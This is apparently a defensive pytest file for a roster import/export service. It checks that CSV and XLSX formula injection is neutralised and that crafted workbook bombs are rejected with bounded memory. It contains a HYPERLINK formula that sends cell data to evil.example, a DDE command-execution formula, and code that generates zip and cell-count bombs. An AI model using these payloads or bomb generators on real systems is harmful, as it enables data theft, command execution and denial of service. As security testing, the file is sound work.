"""Hostile spreadsheets: formula cells never leave the app live, workbook bombs never take its memory."""

from __future__ import annotations

import csv
import json
import random
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from kinerja_desktop.domain.errors import ValidationError
from kinerja_desktop.services.auth_service import create_first_admin
from kinerja_desktop.services.roster_import import export_roster, import_roster
from kinerja_desktop.services.roster_io import read_roster_file
from kinerja_desktop.services.spreadsheet_safety import neutralise_cell, restore_cell
from kinerja_desktop.store.models import Employee, Unit
from tests.unit.services.roster_files import nip, office_rows, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+62 812 3456 7890",
    "-2+3",
    "@SUM(1,2)",
    "\tTab di depan",
    "\rCR di depan",
    "'=sudah dikutip",
]


@pytest.fixture
def admin(empty_db):
    return create_first_admin(empty_db, "admin", "rahasia-kantor")


@pytest.mark.parametrize("value", [*HOSTILE, "biasa", "", "'", "'biasa", "0812", "196608011988031001"])
def test_neutralise_then_restore_gives_back_every_string(value):
    """Quoting is exact both ways: restore(neutralise(v)) == v, and no neutralised text starts a formula."""
    quoted = neutralise_cell(value)
    assert restore_cell(quoted) == value
    assert quoted[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_numbers_stay_numbers_and_nip_text_is_untouched():
    """Real numbers are written as numbers; an NIP is digits only, so it needs no quote."""
    assert neutralise_cell(-5) == -5 and neutralise_cell(2.5) == 2.5 and neutralise_cell(None) is None
    assert neutralise_cell("196608011988031001") == "196608011988031001"


def _office_with_hostile_cells() -> list[dict[str, str]]:
    rows = office_rows()
    rows[0]["nama_unit"] = "=cmd|' /C calc'!A0"
    for index, value in enumerate(HOSTILE):
        rows.append({"nip": nip(20 + index), "nama": f"{value} {index}", "jenis_asn": "PNS", "golongan": "III/a",
                     "jabatan": value, "jenis_jabatan": "PELAKSANA", "kode_unit": "BID", "nip_penilai": nip(2)})
    return rows


def _snapshot(db) -> dict[str, tuple]:
    with db.reader() as s:
        people = {e.nip: (e.name, e.jabatan, e.golongan, e.asn_kind) for e in s.scalars(select(Employee))}
        units = {u.code: u.name for u in s.scalars(select(Unit))}
    return {"people": people, "units": units}


def test_formula_cells_are_exported_inert_and_reimport_unchanged(empty_db, admin, tmp_path):
    """GIVEN a roster CSV with =HYPERLINK, DDE and +/-/@/tab/CR cells WHEN exported as XLSX and CSV THEN no cell is a
    formula, every such cell starts with a quote, and re-importing either export changes nothing."""
    source = write_csv(tmp_path / "hostile.csv", _office_with_hostile_cells())
    first = import_roster(empty_db, admin, source, year=2026)
    assert first.imported, [p.describe() for p in first.problems]
    before = _snapshot(empty_db)
    assert before["people"][nip(20)][1].startswith('=HYPERLINK("http://evil')  # stored as the text it was
    # what the import keeps (tab and CR at the start are whitespace to it) is what must come back quoted
    risky = {j for _n, j, _g, _k in before["people"].values() if j[:1] in ("=", "+", "-", "@")}
    assert len(risky) == 7  # "'=sudah dikutip" arrives as =sudah dikutip: a quote before = is Excel's text mark

    xlsx = tmp_path / "out.xlsx"
    export_roster(empty_db, admin, xlsx, year=2026)
    wb = openpyxl.load_workbook(xlsx)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a live formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert {"'" + j for j in risky} <= set(texts)
    assert "'=cmd|' /C calc'!A0" in texts
    assert not any(t[:1] in ("=", "+", "-", "@", "\t", "\r") for t in texts)

    out_csv = tmp_path / "out.csv"
    export_roster(empty_db, admin, out_csv, year=2026)
    with open(out_csv, encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh, delimiter=";") for c in row]
    assert {"'" + j for j in risky} <= set(cells)
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)

    for export in (xlsx, out_csv):
        again = import_roster(empty_db, admin, export, year=2026)
        assert again.imported, [p.describe() for p in again.problems]
        assert (again.employees_updated, again.units_updated, again.employees_created) == (0, 0, 0)
        assert _snapshot(empty_db) == before


# ----------------------------------------------------------------------------- workbook bombs

_CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                  '2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
_WORKBOOK = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
             '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
             '<sheet name="Pegawai" sheetId="1" r:id="rId1"/></sheets></workbook>')
_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
         'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
_HEAD = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
         '2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>nip</t></is></c>'
         '<c r="B1" t="inlineStr"><is><t>nama</t></is></c></row>')


def _bomb(path: Path, body: bytes, repeat: int, tail: bytes = b"</sheetData></worksheet>") -> Path:
    """A workbook whose sheet XML is the header row, ``body`` ``repeat`` times, then ``tail`` (streamed in)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", _CONTENT_TYPES)
        z.writestr("xl/workbook.xml", _WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", _RELS)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(_HEAD.encode())
            left = repeat
            while left > 0:
                fh.write(body * min(left, 4096))
                left -= 4096
            fh.write(tail)
    return path


def _bombs(tmp: Path, kind: str) -> Path:
    if kind == "ratio":  # 440 MB of empty cells packed into half a megabyte: refused before any XML is read
        return _bomb(tmp / "ratio.xlsx", b'<c r="A2"/>', 40_000_000)
    if kind == "wide":  # within the size limits, one cell at column XFD on 100,000 rows: 1.6 billion slots
        rows = "".join(f'<row r="{r}"><c r="XFD{r}"><v>{r % 7}</v></c></row>' for r in range(2, 100_002))
        return _bomb(tmp / "wide.xlsx", rows.encode(), 1)
    if kind == "merge":  # a tiny file whose one merged range covers the whole sheet
        return _bomb(tmp / "merge.xlsx", b"", 0, b'<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c></row>'
                     b'</sheetData><mergeCells count="1"><mergeCell ref="A2:XFD1048576"/></mergeCells></worksheet>')
    # five million elements that are no cells at all (what a tree parser would keep), at an ordinary ratio
    rng = random.Random(20)
    junk = b"".join(rng.choice((b"<a/>", b"<b/>", b"<i/>", b"<u/>")) for _ in range(65536))
    return _bomb(tmp / "junk.xlsx", b"</sheetData><x>" + junk * 76 + b"</x><sheetData>", 1)


_PROBE = """
import json, resource, sys
from kinerja_desktop.domain.errors import ValidationError
from kinerja_desktop.services.roster_io import read_roster_file
try:
    out = read_roster_file(sys.argv[1])
    message = " | ".join(p.describe() for p in out.problems) or f"{sum(len(t.rows) for t in out.tables)} rows"
except ValidationError as exc:
    message = str(exc)
try:  # the high-water mark of this program; getrusage's also counts the pytest process it was forked from
    with open("/proc/self/status") as fh:
        peak_kb = next(int(line.split()[1]) for line in fh if line.startswith("VmHWM:"))
except OSError:
    peak_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({"message": message, "peak_mb": peak_kb / 1024}))
"""


def _read_in_subprocess(path: Path) -> dict:
    done = subprocess.run([sys.executable, "-c", _PROBE, str(path)], capture_output=True, text=True, timeout=300,
                          check=True)
    return json.loads(done.stdout)


@pytest.mark.parametrize("kind, expected", [
    ("ratio", "bom zip"),
    ("wide", "lebih dari 1.000.000 sel"),
    ("merge", "lebih dari 1.000.000 sel"),
    ("junk", "0 rows"),
])
def test_workbook_bombs_are_refused_with_the_reason_and_bounded_memory(tmp_path, kind, expected):
    """GIVEN a workbook bomb WHEN the roster reader opens it in a fresh process THEN it names what is wrong and its
    peak memory stays under 300 MB."""
    path = _bombs(tmp_path, kind)
    assert path.stat().st_size < 3 * 1024 * 1024
    report = _read_in_subprocess(path)
    assert expected in report["message"], report
    assert report["peak_mb"] < 300, report
    print(f"{kind}: {path.stat().st_size / 1024:.0f} KiB on disk, peak RSS {report['peak_mb']:.0f} MB")


def test_zip_bomb_message_says_what_was_wrong(tmp_path):
    """The refusal is one ValidationError naming the file, the sizes and the ratio, in Indonesian."""
    path = _bomb(tmp_path / "bom.xlsx", b'<c r="A2"/>', 40_000_000)
    with pytest.raises(ValidationError, match=r"bom.xlsx ditolak: bagian xl/worksheets/sheet1.xml mengembang dari "
                                              r"[\d,]+ MB menjadi [\d,]+ MB .*rasio \d+:1"):
        read_roster_file(path)


def test_one_line_csv_of_delimiters_is_refused_before_it_is_split(tmp_path):
    """A CSV of two million semicolons on one line is refused by its cell count, not after a 400 MB row list."""
    path = tmp_path / "wide.csv"
    path.write_text("nip;nama\n" + ";" * 2_000_000 + "\n", encoding="utf-8")
    with pytest.raises(ValidationError, match="lebih dari 1.000.000 sel"):
        read_roster_file(path)
